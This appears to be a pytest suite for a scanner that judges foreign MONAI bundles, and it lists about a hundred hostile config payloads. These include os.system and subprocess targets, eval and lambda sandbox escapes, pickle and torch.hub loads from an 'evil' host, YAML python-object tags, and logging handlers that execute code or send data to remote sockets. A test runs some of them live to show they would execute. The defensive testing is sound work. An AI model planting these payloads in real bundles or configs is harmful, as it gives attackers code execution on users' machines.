"""Foreign bundles: what could do harm is refused or shown, nothing of it runs, and what is listed passes."""

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from segadv_monai.bundle import judge
from segadv_monai.protocols import ConfigError

TOUCH = "touch CANARY"
EVIL = f"__import__('os').system('{TOUCH}')"
HANDLER = "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=f\n[logger_root]\nhandlers=h\n"
LOGGING = HANDLER + "[formatter_f]\nformat=%(message)s\n[handler_h]\n"


def target(name: Any, /, **arguments: Any) -> dict[str, Any]:
    return {"x": {"_target_": name, **arguments}}


def nested(levels: int) -> str:
    return "[" * levels + "]" * levels


BROKEN_OPEN = "a string that references break open"
# What would run, as the file train.json unless another name stands there.
REFUSED: dict[str, Any] = {
    "a shell": target("os.system", command=TOUCH),
    "a shell deep in lists": {"a": [[{"b": [target("os.system", command=TOUCH)]}]]},
    "a shell in an overlay": {"train::dataloader::_target_": "os.system"},
    "a shell in an overlay of the old form": {"train#dataloader#_target_": "os.system"},
    "a shell in an extension": {"+train": target("os.system", command=TOUCH)},
    "a shell behind dots": target("..os...system", command=TOUCH),
    "a shell through MONAI": target("monai.utils.module.os.system", command=TOUCH),
    "a shell through this package": target("segadv_monai.bundle.device.os.system", command=TOUCH),
    "a process": target("subprocess.Popen", args=TOUCH, shell=True),
    "a module": target("torch.nn.functional.importlib.import_module", name="evilpackage"),
    "eval": target("builtins.eval", source=EVIL),
    "eval without its module": target("eval", source=EVIL),
    "exec for later": target("builtins.exec", _mode_="callable"),
    "a pickle": target("pickle.loads", data="cos\nsystem\n"),
    "a pickle of torch": target("torch.load", f="models/model.pt"),
    "a pickle through MONAI": target("monai.data.utils.pickle.loads"),
    "a repository": target("torch.hub.load", repo_or_dir="evil/evil", model="evil"),
    "another bundle": target("monai.bundle.load", name="evil"),
    "another bundle by a bare name": target("load", name="evil"),
    "a run by a bare name": target("run", config_file="evil.json"),
    "an import": target("monai.utils.optional_import", module="evilpackage"),
    "modules": target("monai.utils.module.load_submodules", basemod="evilpackage"),
    "a download": target("monai.apps.download_url", url="http://evil", filepath="x"),
    "TorchScript": target("monai.data.load_net_with_metadata", filename_prefix_or_stream="model.ts"),
    "processes": target("ignite.distributed.Parallel"),
    "a dunder": target("torch.nn.Module.__init_subclass__"),
    "a homoglyph": target("\u043es.system", command=TOUCH),
    "a target by reference": {"name": "os.system", **target("@name", command=TOUCH)},
    "a target by expression": target("$'os.' + 'system'", command=TOUCH),
    "a target by macro": {"name": "os.system", **target("%name", command=TOUCH)},
    "a debugger": target("torch.nn.ReLU", _mode_="debug"),
    "a debugger by expression": target("torch.nn.ReLU", _mode_="$'de' + 'bug'"),
    "a breakpoint": target("torch.nn.ReLU", _debug_=True),
    "a condition": target("torch.nn.ReLU", _disabled_="$" + EVIL),
    "a requirement": target("torch.nn.ReLU", _requires_=["$" + EVIL]),
    "a description": target("torch.nn.ReLU", _desc_="$" + EVIL),
    "a reader": target("monai.transforms.LoadImage", reader="os.system", command=TOUCH),
    "readers": target("LoadImaged", keys="image", reader=["ITKReader", "os.system"]),
    "a writer": target("SaveImaged", keys="image", writer="subprocess.Popen"),
    "a merger": target("PatchInferer", merger_cls="os.system"),
    "a reader in an overlay": {"train::loader::reader": "os.system"},
    "pickled arrays": target("NumpyReader", allow_pickle=True),
    "a pickled cache": target("PersistentDataset", cache_dir="models", weights_only=False),
    "an import of processes": {"imports": ["$import subprocess"]},
    "an import in the place of torch": {"imports": ["$import os as torch"], "x": f"$torch.system('{TOUCH}')"},
    "an import in the place of len": {"imports": ["$from glob import glob as len"]},
    "an import behind a name": {"imports": ["$import os as dist"], "x": f"$dist.system('{TOUCH}')"},
    "an expression": {"x": "$" + EVIL},
    "an expression in a list": {"initialize": ["$@a", {"b": ["$" + EVIL]}]},
    "an expression in eval": {"x": f'$eval("{EVIL}")'},
    "full-width letters": {"x": f'$\uff45val("{EVIL}")'},
    "classes": {"x": "$().__class__.__mro__[1].__subclasses__()"},
    "a format": {"x": "$'{0.__class__}'.format(@net)"},
    "a hidden attribute": {"x": "$getattr(torch, '__' + 'builtins__')"},
    BROKEN_OPEN: {
        "f": 1,
        "x": f"""$'@f{{__import__("os").system("{TOUCH}")}}'""",
    },
    "a relative reference to an evil key": {f"1] or {EVIL} or [": {"v": "$@#a"}},
    "MONAI's own name": {"x": "$__local_refs"},
    "a lambda": {"x": f"$lambda _: {EVIL}"},
    "a loop": {"x": f"$[{EVIL} for i in [0]]"},
    "a frame": {"x": "$(i for i in [0]).gi_frame"},
    "a loader handed on": {"x": "$torch.load"},
    "a power": {"x": "$9**9**9"},
    "a repetition": {"x": "$'a' * 10**10"},
    "a deep expression": {"x": "$" + "-" * 500 + "1"},
    "a long expression": {"x": "$" + "1 + " * 1000 + "1"},
    "two statements": {"x": f"$1; {EVIL}"},
    "a macro of the web": {"x": "%http://evil/x.json::a"},
    "a macro of an absolute path": {"x": "%/etc/evil.json::a"},
    "a macro of the folder above": {"x": "%../evil.json#a"},
    "the metadata": ("configs/metadata.json", {"name": "$" + EVIL}),
    "a relative macro under an evil key": {"/evil.json": {"x": "%#a"}},
    "a hidden folder": ("configs/.hidden/x.json", target("os.system", command=TOUCH)),
    "another folder": ("docs/x.JSON", target("os.system", command=TOUCH)),
    "a key twice": ("configs/train.json", '{"x": {"_target_": "os.system"}, "x": 1}'),
    "deep JSON": ("configs/train.json", nested(100_000)),
    "broken JSON": ("configs/train.json", '{"x": '),
    "another encoding": ("configs/train.json", '{"x": "\u00e9"}'.encode("latin-1")),
    "YAML of Python": ("configs/x.yaml", f"x: !!python/object/apply:os.system ['{TOUCH}']"),
    "YAML with a target": ("configs/x.yml", f"x: {{_target_: os.system, command: {TOUCH}}}"),
    "YAML with a key twice": ("configs/x.yaml", "x: {_target_: os.system}\nx: 1\n"),
    "deep YAML": ("configs/x.yaml", nested(5000)),
    "YAML within itself": ("configs/x.yaml", "x: &a [*a]"),
    "YAML that grows": (
        "configs/x.yaml",
        "a0: &a0 [1, 1]\n" + "".join(f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]\n" for i in range(1, 40)),
    ),
    "logging with a call": ("configs/logging.conf", f"{LOGGING}class=StreamHandler\nargs=({EVIL},)\n"),
    "logging with names": (
        "configs/logging.conf",
        f"{LOGGING}class=StreamHandler\nkwargs={{'stream': {EVIL}}}\n",
    ),
    "logging with eval": ("configs/logging.conf", f'{LOGGING}class=eval\nargs=("{EVIL}",)\n'),
    "logging with a class of os": ("configs/logging.conf", f"{LOGGING}class=os.system\nargs=('{TOUCH}',)\n"),
    "logging with a call as class": ("configs/logging.conf", f"{LOGGING}class={EVIL}\n"),
    "logging over a socket": (
        "configs/logging.conf",
        f"{LOGGING}class=handlers.SocketHandler\nargs=('evil', 1)\n",
    ),
    "logging over the web": ("configs/logging.conf", f"{LOGGING}class=logging.handlers.HTTPHandler\n"),
    "logging by mail": ("configs/other.ini", f"{LOGGING}class=handlers.SMTPHandler\n"),
    "logging with a formatter": (
        "configs/logging.conf",
        LOGGING.replace("format=", "class=evilpackage.F\nformat="),
    ),
    "logging filled in": (
        "configs/logging.conf",
        f"{LOGGING}class=StreamHandler\nx=',__import__(\"os\").system(\"{TOUCH}\"),'\nargs=('%(x)s',)\n",
    ),
    "broken logging": ("configs/logging.conf", "class=StreamHandler"),
    "a module in the place of torch": ("torch/__init__.py", "import os"),
}
REVIEWED: dict[str, Any] = {
    "a class of the bundle": target("scripts.net.Net", layers=3),
    "a class of another package": target("evilpackage.Net"),
    "a function of one's own": target("monai.transforms.Lambdad", keys="image", func="$@network.forward"),
    "a lambda that counts": {"x": "$lambda x: x + 1"},
    "an import": {"imports": ["$import glob"]},
    "a search for files": {"x": "$list(sorted(glob.glob(@dataset_dir + '/*.nii.gz')))"},
    "a choice": {"x": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')"},
    "a flag of torch": {"x": "$setattr(torch.backends.cudnn, 'benchmark', True)"},
    "an f-string": {"x": "$f'cuda:{dist.get_rank()}'"},
    "a server": target("monai.handlers.MLFlowHandler", tracking_uri="http://evil"),
    "an address": {"dataset_dir": "https://evil/data"},
    "a path of its own": {"output_dir": "/data/somebody"},
    "a path above": {"output_dir": "models/../../x"},
    "a path above by an expression": {"output_dir": "$@bundle_root + '/../x'"},
    "a file of one's choice": target("LogfileHandler", filename=".bashrc"),
    "weights of the web": target("monai.networks.nets.DenseNet121", pretrained=True),
    "a meeting point": {"x": "$torch.distributed.init_process_group('gloo', init_method='tcp://evil:1')"},
    "weights from a pickle": {"allow_pt": True},
    "a reader by reference": target("LoadImaged", reader="@reader"),
    "a macro of a file": {"x": "%other.json::a"},
    "a workflow": {"workflow_name": "scripts.workflow.Workflow"},
    "a name of danger": {"x": "os.system"},
    "a name of danger at the end": {"x": ["PIL.Image.os.system"]},
    "a class handed on": target(
        "DatasetFunc", data="evil.load", func=target("LoadImage", _mode_="callable")["x"]
    ),
    "logging into a file": ("configs/logging.conf", f"{LOGGING}class=FileHandler\nargs=('log.txt',)\n"),
    "logging for all sections": (
        "configs/logging.conf",
        f"[DEFAULT]\nargs=(1,)\n{LOGGING}class=NullHandler\n",
    ),
    "code": ("scripts/net.py", "import os"),
    "a notebook": ("docs/demo.ipynb", "{}"),
    "weights as a pickle": ("models/model.pt", b"PK\x03\x04"),
    "a program of torch": ("models/model.ts", b"PK\x03\x04"),
    "a pickle under another name": ("docs/notes.txt", b"\x80\x04cos\nsystem"),
    "a program under another name": ("docs/readme", b"#!/bin/sh\ntouch CANARY"),
    "an archive": ("data/images.tar.gz", b"\x1f\x8b"),
    "an unknown kind": ("data/x.xyz", b""),
}


def bundle(folder: Path, content: Any, canary: Path) -> Path:
    """A bundle with one strange file, whose payload makes the canary."""
    name, text = content if isinstance(content, tuple) else ("configs/train.json", content)
    text = json.dumps(text) if isinstance(text, dict) else text
    data = text.encode() if isinstance(text, str) else text
    file = folder / "bundle" / name
    file.parent.mkdir(parents=True)
    file.write_bytes(data.replace(b"CANARY", str(canary).encode()))
    return folder / "bundle"


@pytest.fixture
def canary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A file that a payload would make; so would the import of ``evilpackage``."""
    canary = tmp_path / "canary"
    package = tmp_path / "path" / "evilpackage.py"
    package.parent.mkdir()
    package.write_text(f"open({str(canary)!r}, 'w')")
    monkeypatch.syspath_prepend(package.parent)
    monkeypatch.chdir(tmp_path)
    return canary


def test_there_are_enough_attacks() -> None:
    assert len(REFUSED) + len(REVIEWED) >= 100


@pytest.mark.parametrize("content", REFUSED.values(), ids=REFUSED)
def test_an_attack_is_refused_and_does_not_run(tmp_path: Path, canary: Path, content: Any) -> None:
    """Keeps B1, B2."""
    judgement = judge(bundle(tmp_path, content, canary))
    assert judgement.verdict == "refused", judgement.findings
    assert judgement.exit_code == 4
    assert not canary.exists()


@pytest.mark.parametrize("content", REVIEWED.values(), ids=REVIEWED)
def test_what_is_unknown_is_shown_and_does_not_run(tmp_path: Path, canary: Path, content: Any) -> None:
    """Keeps B1, B2."""
    judgement = judge(bundle(tmp_path, content, canary))
    assert judgement.verdict == "needs review", judgement.findings
    assert judgement.exit_code == 3
    assert not canary.exists()


LIVE = """
import json, logging.config, sys
from pathlib import Path
from monai.bundle import ConfigParser
canary, live = Path(sys.argv[1]), []
for name, text in json.loads(sys.argv[2]).items():
    canary.unlink(missing_ok=True)
    try:
        if text.startswith("["):
            Path("live.conf").write_text(text)
            logging.config.fileConfig("live.conf")
        else:
            ConfigParser(json.loads(text)).get_parsed_content("x")
    except Exception:
        pass
    live += [name] * canary.exists()
print(json.dumps(live))
"""


def test_the_attacks_would_run_if_a_run_were_started(canary: Path) -> None:
    names = ("a shell", "a shell behind dots", "a target by reference", "a reader", "an expression")
    attacks = {name: json.dumps(REFUSED[name]) for name in (*names, "a condition", "a loop", BROKEN_OPEN)}
    attacks["logging with a call"] = REFUSED["logging with a call"][1]
    broken = {"f": 1, "x": '$\'@f{__import__("os").system("' + TOUCH + "\")}'"}
    attacks["a string that references break open"] = json.dumps(broken)
    given = json.dumps(attacks).replace("CANARY", str(canary))
    command = [sys.executable, "-W", "ignore", "-c", LIVE, str(canary), given]
    result = subprocess.run(command, capture_output=True, text=True, check=True)
    assert json.loads(result.stdout.splitlines()[-1]) == list(attacks)


IDIOMS = {
    "imports": ["$import glob", "$import os"],
    "bundle_root": ".",
    "output_dir": "$@bundle_root + '/eval'",
    "images": "$list(sorted(glob.glob(os.path.join(@dataset_dir, 'imagesTr', '*.nii.gz'))))",
    "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
    "network_def": {"_target_": "UNet", "spatial_dims": 3, "norm": "batch"},
    "network": "$@network_def.to(@device)",
    "data": "$[{'image': i} for i in @images[:-9]]",
    "trainer": {
        "_target_": "SupervisedTrainer",
        "train_data_loader": {"_target_": "DataLoader", "dataset": {"_target_": "CacheDataset"}},
        "key_train_metric": {"_target_": "ignite.metrics.Accuracy"},
        "output_transform": "$monai.handlers.from_engine(['pred', 'label'])",
    },
    "handlers": [{"_target_": "CheckpointLoader", "_disabled_": "$not os.path.exists(@ckpt)"}],
    "initialize": ["$monai.utils.set_determinism(seed=123)"],
    "post": "%train#postprocessing",
    "run": ["$@trainer.run()"],
}


def test_idioms_of_the_model_zoo_need_a_review_with_what_would_run(tmp_path: Path, canary: Path) -> None:
    """Keeps B3."""
    judgement = judge(bundle(tmp_path, IDIOMS, canary))
    assert judgement.verdict == "needs review"
    shown = {finding.key: finding.text for finding in judgement.findings}
    assert shown == {
        "imports#0": IDIOMS["imports"][0],
        "imports#1": IDIOMS["imports"][1],
        "images": IDIOMS["images"],
        "device": IDIOMS["device"],
        "data": IDIOMS["data"],
        "handlers#0#_disabled_": "$not os.path.exists(@ckpt)",
    }


def test_a_bundle_of_listed_things_is_safe(tmp_path: Path, canary: Path) -> None:
    content = {
        "network": target("torch.nn.ReLU")["x"],
        "loader": target("LoadImaged", keys="image", reader="NibabelReader")["x"],
        "optimizer": target("torch.optim.Adam", params="$@network.parameters()", lr="$10 ** -3 * 2")["x"],
        "run": ["$@network.to(@device)", "%network"],
    }
    content["optimizer"]["lr"] = "$2 ** 3 / 1000"
    folder = bundle(tmp_path, content, canary)
    (folder / "configs" / "logging.conf").write_text(f"{LOGGING}class=StreamHandler\nargs=(sys.stdout,)\n")
    (folder / "LICENSE").write_text("free")
    np.save(folder / "numbers.npy", np.zeros(3))
    judgement = judge(folder)
    assert judgement == judge([folder / "configs" / "train.json", folder / "configs"])
    assert (judgement.verdict, judgement.findings, judgement.exit_code) == ("safe", (), 0)
    np.save(folder / "objects.npy", np.array([{}], dtype=object), allow_pickle=True)
    assert judge(folder).verdict == "needs review"


def test_a_finding_is_one_line_with_place_reason_and_all_that_would_run(tmp_path: Path, canary: Path) -> None:
    """Keeps B3."""
    content = {
        "train": {"trainer": {"_target_": "evilpackage.Net"}},
        "x": "$glob.glob(\n'\x1b[2J', " + "1, " * 90 + "'end')",
    }
    lines = [str(finding) for finding in judge(bundle(tmp_path, content, canary)).findings]
    place = "configs/train.json: train#trainer#_target_"
    assert lines[0] == f"{place}: is not on the list of known names: evilpackage.Net"
    assert lines[1].endswith("1, 'end')")
    assert all(line.isprintable() and line.isascii() for line in lines)


def test_the_refused_come_first(tmp_path: Path, canary: Path) -> None:
    content = {"a": "$import glob", "b": "$" + EVIL, "c": "$lambda: 1"}
    verdicts = [finding.verdict for finding in judge(bundle(tmp_path, content, canary)).findings]
    assert verdicts == ["refused", "needs review", "needs review"]


def test_links_out_of_the_bundle_and_things_that_are_no_files_are_refused(
    tmp_path: Path, canary: Path
) -> None:
    """Keeps B4."""
    (tmp_path / "outside.json").write_text("{}")
    folder = bundle(tmp_path, {"x": 1}, canary)
    (folder / "inside.json").symlink_to("configs/train.json")
    (folder / "folder").symlink_to("configs")
    assert judge(folder).verdict == "safe"
    for name, goal in (("a.json", tmp_path / "outside.json"), ("b", tmp_path), ("c", "nowhere"), ("e", "e")):
        (folder / name).symlink_to(goal)
    os.mkfifo(folder / "d.json")
    assert [finding.file for finding in judge(folder).findings] == ["a.json", "b", "c", "d.json", "e"]
    assert judge(folder).verdict == "refused"


def test_a_link_is_judged_by_its_own_name(tmp_path: Path, canary: Path) -> None:
    folder = bundle(tmp_path, ("docs/notes.txt", json.dumps(target("os.system"))), canary)
    assert judge(folder).verdict == "safe"
    (folder / "train.json").symlink_to("docs/notes.txt")
    assert judge(folder).verdict == "refused"


def test_too_much_is_refused_with_a_line(
    tmp_path: Path, canary: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Keeps B4."""
    folder = bundle(tmp_path, {"x": list(range(250_000))}, canary)
    assert "200000 entries" in str(judge(folder).findings[0])
    (folder / "configs" / "train.json").write_text(json.dumps(["x" * 5_000_001]))
    assert "bytes" in str(judge(folder).findings[0])
    (folder / "configs" / "train.json").write_text("{}")
    (folder / "configs" / "more.yaml").write_text("x: " + "y" * 500_000)
    assert "YAML" in str(judge(folder).findings[0])
    (folder / "configs" / "more.yaml").write_text("x: 1")
    monkeypatch.setitem(judge.__globals__, "_MAX_FILES", 1)
    assert "more than 1 files" in str(judge(folder).findings[0])


def test_a_place_without_files_is_no_bundle(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    for place in ("empty", "nowhere"):
        with pytest.raises(
            ConfigError, match=f"{place} is no file, and no folder with files: name the folder"
        ):
            judge(tmp_path / place)


def test_a_folder_that_cannot_be_read_ends_the_judgement(
    tmp_path: Path, canary: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = bundle(tmp_path, {"x": 1}, canary)
    (folder / "closed").mkdir()
    scan = os.scandir

    def refuse(path: str) -> Any:
        if Path(path).name == "closed":
            raise PermissionError(13, "Permission denied", path)
        return scan(path)

    monkeypatch.setattr(os, "scandir", refuse)
    with pytest.raises(ConfigError, match="closed cannot be read"):
        judge(folder)
